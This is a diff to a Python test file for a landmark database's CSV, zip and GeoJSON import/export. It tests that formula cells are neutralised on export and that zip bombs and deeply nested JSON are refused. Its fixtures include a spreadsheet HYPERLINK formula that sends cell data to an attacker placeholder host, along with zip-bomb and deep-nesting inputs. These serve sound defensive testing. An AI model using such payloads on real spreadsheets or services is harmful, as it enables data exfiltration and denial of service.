@@ -7,11 +7,13 @@ Every database test runs on SQLite and on PostgreSQL (``db_url``).
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import getpass
 import io
 import json
 import os
+import shutil
 import subprocess
 import sys
 import zipfile
@@ -281,7 +283,7 @@ def test_unusable_uploads_are_reported(db: store.Store, name: str, data: bytes, 
 
 
 def test_zip_bombs_are_not_unpacked(db: store.Store, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(transfer, "MAX_FILE_BYTES", 10_000)
+    monkeypatch.setattr(transfer.reading, "MAX_FILE_BYTES", 10_000)
     bomb = zip_of({"landmarks.csv": b"id" + b"\n" * 1_000_000})  # about 1 KB compressed, 1 MB unpacked
     assert len(bomb) < 10_000
     upload = transfer.read_upload("bomb.zip", bomb)
@@ -299,7 +301,7 @@ def test_zip_bombs_are_not_unpacked(db: store.Store, monkeypatch: pytest.MonkeyP
 
 
 def test_oversized_upload_is_refused_before_reading(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(transfer, "MAX_UPLOAD_BYTES", 100)
+    monkeypatch.setattr(transfer.reading, "MAX_UPLOAD_BYTES", 100)
     upload = transfer.read_upload("landmarks.csv", GOOD)
     assert [str(p) for p in upload.problems] == ["landmarks.csv:0: -: file is larger than 0 MB"]
 
@@ -374,8 +376,8 @@ def test_published_itinerary_rules_of_curation_hold_for_imports(db: store.Store)
     )
     plan = transfer.preview(db, {"itinerary_stops.csv": stops.encode()}, EDDIE)
     assert problems(plan) == [
-        "itinerary_stops.csv:3: landmark_id: landmark 'shenzhen-museum-draft' is draft, "
-        "but itinerary 'shenzhen-mini' is published: publish it first"
+        # the editor's words: one rule, one message (it used to be worded differently here)
+        "itinerary_stops.csv:3: landmark_id: landmark 'shenzhen-museum-draft' is a draft: publish it first"
     ]
     lines = GOOD.decode("utf-8-sig").splitlines()
     archived = "\n".join([lines[0], lines[1].replace(",published", ",archived")]).encode()
@@ -738,3 +740,193 @@ def test_cli_export_and_import_as_processes(mini_dir: Path, sqlite_url: str, tmp
     done = run("import", str(IMPORTS / "excel-bad-row" / "landmarks.csv"))
     assert done.returncode == 1
     assert done.stdout.splitlines()[1:] == BAD_ROW_PROBLEMS
+
+
+# --- formula cells: guarded in the export, real text after the import ---------------------------
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
+    "name_zh": "+1",
+    "district": "-x",
+    "address": "@x",
+    "summary": "'=already quoted by hand",
+}
+
+
+def plant_formulas(db: store.Store) -> None:
+    """Text that a spreadsheet would run, in a landmark, an itinerary and a stop."""
+    with db.transaction() as conn:
+        conn.execute(
+            store.landmarks.update()
+            .where(store.landmarks.c.id == "ping-an-finance-center")
+            .values(**FORMULAS)
+        )
+        conn.execute(
+            store.itineraries.update()
+            .where(store.itineraries.c.id == "shenzhen-mini")
+            .values(title="@SUM(A1:A9)")
+        )
+        conn.execute(
+            store.itinerary_stops.update()
+            .where(
+                store.itinerary_stops.c.itinerary_id == "shenzhen-mini", store.itinerary_stops.c.position == 1
+            )
+            .values(note="=1+1")
+        )
+
+
+def test_formula_cells_are_guarded_in_the_export_and_round_trip_with_their_real_text(db: store.Store) -> None:
+    plant_formulas(db)
+    first = transfer.export_zip(db, "shenzhen")
+    with zipfile.ZipFile(io.BytesIO(first)) as archive:
+        text = {i.filename.split("/")[1]: archive.read(i).decode("utf-8-sig") for i in archive.infolist()}
+    rows = {r[0]: r for r in csv.reader(io.StringIO(text["landmarks.csv"], newline=""))}
+    columns = rows["id"]
+    ping = dict(zip(columns, rows["ping-an-finance-center"], strict=True))
+    for name, value in FORMULAS.items():
+        # the apostrophe: a spreadsheet shows text; "+1" is a plain number, never a formula
+        assert ping[name] == (value if value == "+1" else "'" + value), name
+    assert ping["lat"] == "22.5366" and ping["lon"] == "114.0503"  # numbers stay numbers
+    assert "'@SUM(A1:A9)" in text["itineraries.csv"] and "'=1+1" in text["itinerary_stops.csv"]
+
+    plan = transfer.preview(db, transfer.read_upload("shenzhen.zip", first), EDDIE)
+    assert plan.ok and not plan.rows, plan.report()  # the importer reads the real text back
+
+    db.replace_all(Dataset((), (), (), (), ()))
+    transfer.apply(db, transfer.preview(db, transfer.read_upload("shenzhen.zip", first), ADA), ADA)
+    lm = next(lm for lm in db.dataset().landmarks if lm.id == "ping-an-finance-center")
+    assert {name: getattr(lm, name) for name in FORMULAS} == FORMULAS
+    assert transfer.export_zip(db, "shenzhen") == first  # byte-identical
+
+
+def test_a_formula_typed_in_a_spreadsheet_upload_is_refused_or_kept_as_typed(db: store.Store) -> None:
+    """A cell without our guard is data like any other: the importer does not run or strip it."""
+    text = GOOD.decode("utf-8-sig").replace("Ping An Finance Center", "=1+1")
+    plan = transfer.preview(db, {"landmarks.csv": text.encode()}, EDDIE)
+    assert plan.ok, plan.report()
+    [changed] = plan.landmarks.changed
+    assert changed.after["name"] == "=1+1"
+
+
+def test_no_exported_cell_is_evaluated_by_libreoffice(db: store.Store, tmp_path: Path) -> None:
+    """A spreadsheet engine nobody here wrote: LibreOffice headless converting the CSV evaluates
+    an unguarded formula (the control) and none of the exported cells."""
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        if os.environ.get("CI") == "true":
+            pytest.fail("LibreOffice (soffice) is missing: apt-get install libreoffice-calc")
+        pytest.skip("LibreOffice (soffice) is not installed")
+    plant_formulas(db)
+    exported = transfer.export_files(db, "shenzhen")["landmarks.csv"]
+    raw = exported.decode("utf-8-sig").replace("'=HYPERLINK", "=HYPERLINK").encode()  # the guard undone
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "guarded.csv").write_bytes(exported)
+    (tmp_path / "in" / "raw.csv").write_bytes(raw)
+    # field separator, text delimiter, UTF-8, first line, column types, language, quoted as text,
+    # detect special numbers, ..., evaluate formulas: on
+    options = "44,34,76,1,,0,false,true,false,false,true,-1"
+    for name in ("guarded", "raw"):
+        subprocess.run(
+            [
+                soffice,
+                "--headless",
+                "--norestore",
+                f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
+                f"--infilter=CSV:{options}",
+                "--convert-to",
+                "csv",
+                "--outdir",
+                str(tmp_path / "out"),
+                str(tmp_path / "in" / f"{name}.csv"),
+            ],
+            check=True,
+            capture_output=True,
+            timeout=180,
+        )
+
+    def converted(name: str) -> list[list[str]]:
+        # "raw-raw.csv" with LibreOffice 24 (one file per sheet), "raw.csv" before
+        [path] = (tmp_path / "out").glob(f"{name}*.csv")
+        return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+    def ping_row(rows: list[list[str]]) -> list[str]:
+        return next(r for r in rows if r and r[0] == "ping-an-finance-center")
+
+    assert ping_row(converted("raw"))[2] == "click"  # the control: LibreOffice ran the formula
+    ping = ping_row(converted("guarded"))
+    assert ping[2] == "'" + FORMULAS["name"] and ping[7] == "'-x" and ping[8] == "'@x"  # text, as exported
+    assert not any(cell == "click" for row in converted("guarded") for cell in row)
+
+
+# --- deep and wide JSON: problems, never an exception -------------------------------------------
+
+
+def feature_collection(*features: str) -> bytes:
+    return ('{"type": "FeatureCollection", "features": [' + ",".join(features) + "]}").encode()
+
+
+def landmark_feature(name: str = '"Bay"', extra: str = "") -> str:
+    return (
+        '{"type": "Feature", "id": "shenzhen-bay", "geometry": {"type": "Point", "coordinates": [113.94, 22.51]},'
+        f' "properties": {{"city_id": "shenzhen", "name": {name}, "themes": "nature"{extra}}}}}'
+    )
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        (  # 600 levels: the property conversion recursed (RecursionError at about 900)
+            feature_collection(landmark_feature(name="[" * 600 + "]" * 600)),
+            ["x.geojson:1: -: nested deeper than 20 levels; not read"],
+        ),
+        (  # 100,000 levels: the JSON decoder itself used to raise RecursionError
+            b"[" * 100_000 + b"]" * 100_000,
+            ["x.geojson:0: -: nested deeper than 20 levels; not read"],
+        ),
+        (
+            feature_collection(landmark_feature(name='"' + "x" * 10_001 + '"')),
+            ["x.geojson:1: name: 10,001 characters long; at most 10,000"],
+        ),
+        (  # wide: a list of 100,000 themes in one cell
+            feature_collection(landmark_feature(extra=', "district": [' + ",".join(['"a"'] * 100_000) + "]")),
+            ["x.geojson:1: district: 199,999 characters long; at most 10,000"],
+        ),
+    ],
+    ids=["deep-property", "deep-document", "long-cell", "wide-list"],
+)
+def test_deep_and_wide_geojson_is_reported_not_raised(
+    db: store.Store, data: bytes, expected: list[str]
+) -> None:
+    before = snapshot(db)
+    plan = transfer.preview(db, transfer.read_upload("x.geojson", data), EDDIE)
+    assert problems(plan) == expected
+    assert set(plan.codes) == set(plan.problems)  # coded: a page says them in its language
+    with pytest.raises(transfer.PlanHasProblems):
+        transfer.apply(db, plan, EDDIE)
+    assert snapshot(db) == before
+
+
+def test_too_many_features_or_properties_are_reported_briefly(
+    db: store.Store, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(transfer.geojson, "MAX_FEATURES", 3)
+    plan = transfer.preview(
+        db, transfer.read_upload("x.geojson", feature_collection(*[landmark_feature()] * 4)), EDDIE
+    )
+    assert problems(plan) == ["x.geojson:0: features: 4 features; at most 3 are read"]
+    many = "".join(f', "p{i}": {i}' for i in range(5_000))
+    plan = transfer.preview(
+        db, transfer.read_upload("x.geojson", feature_collection(landmark_feature(extra=many))), EDDIE
+    )
+    assert len(plan.problems) == 10 and all("unknown property" in p.message for p in plan.problems)
+
+
+def test_unguarding_keeps_every_problem_on_its_own_line(db: store.Store) -> None:
+    lines = GOOD.decode("utf-8-sig").splitlines()
+    guarded = lines[1].replace("Ping An Finance Center", '"\'=two\nlines"', 1)
+    bad = lines[2].replace(",90,", ",ninety,", 1)
+    raw = "\r\n".join([lines[0], guarded, bad]).encode()
+    parsed = seed.parse_file(seed.SPEC_BY_NAME["landmarks.csv"], raw, [])
+    assert parsed.rows[0][1]["name"] == "=two\nlines"  # the reader gives the real text back
+    plan = transfer.preview(db, {"landmarks.csv": raw}, EDDIE)
+    assert problems(plan) == ["landmarks.csv:4: visit_minutes: 'ninety' is not a whole number"]
